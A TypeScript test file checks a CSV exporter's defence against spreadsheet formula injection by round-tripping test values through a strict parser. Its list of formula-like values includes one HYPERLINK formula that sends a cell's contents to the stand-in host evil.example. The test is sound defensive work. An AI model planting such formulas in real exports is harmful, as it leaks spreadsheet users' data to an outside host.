/** The CSV writer read back with the tests' strict RFC 4180 reader: quoting, and cells that start like a formula. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { csvHeader, csvRecords } from '../../src/export/csv';
import { parseCsv } from '../helpers/export';

const FIELDS = ['sys_id', 'value'];

/** Writes one record per value and reads the values back. */
function roundTrip(values: readonly string[], neutralizeFormulas: boolean): string[] {
  const rows = values.map((value, index) => ({ sys_id: String(index), value }));
  const text = csvHeader(FIELDS) + csvRecords(rows, FIELDS, { neutralizeFormulas });
  const [header, ...records] = parseCsv(text);
  assert.deepEqual(header, FIELDS);
  return records.map((record) => record[1] ?? '');
}

// OWASP, "CSV Injection": the characters a spreadsheet may read as the start of a formula.
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+1 555 0100',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '=',
];
const HARMLESS = [
  '',
  'plain',
  'a=b',
  'mail@example.com',
  "'already quoted",
  ' =leading space',
  'x\n=y',
  '1-2',
];

describe('CSV cells', () => {
  test('with neutralizeFormulas, cells that start like a formula get a leading single quote', () => {
    assert.deepEqual(
      roundTrip(FORMULAS, true),
      FORMULAS.map((value) => `'${value}`),
    );
  });

  test('other cells are written as they are, quoting intact', () => {
    assert.deepEqual(roundTrip(HARMLESS, true), HARMLESS);
  });

  test('with neutralizeFormulas off every cell is written as read', () => {
    assert.deepEqual(roundTrip([...FORMULAS, ...HARMLESS], false), [...FORMULAS, ...HARMLESS]);
  });
});
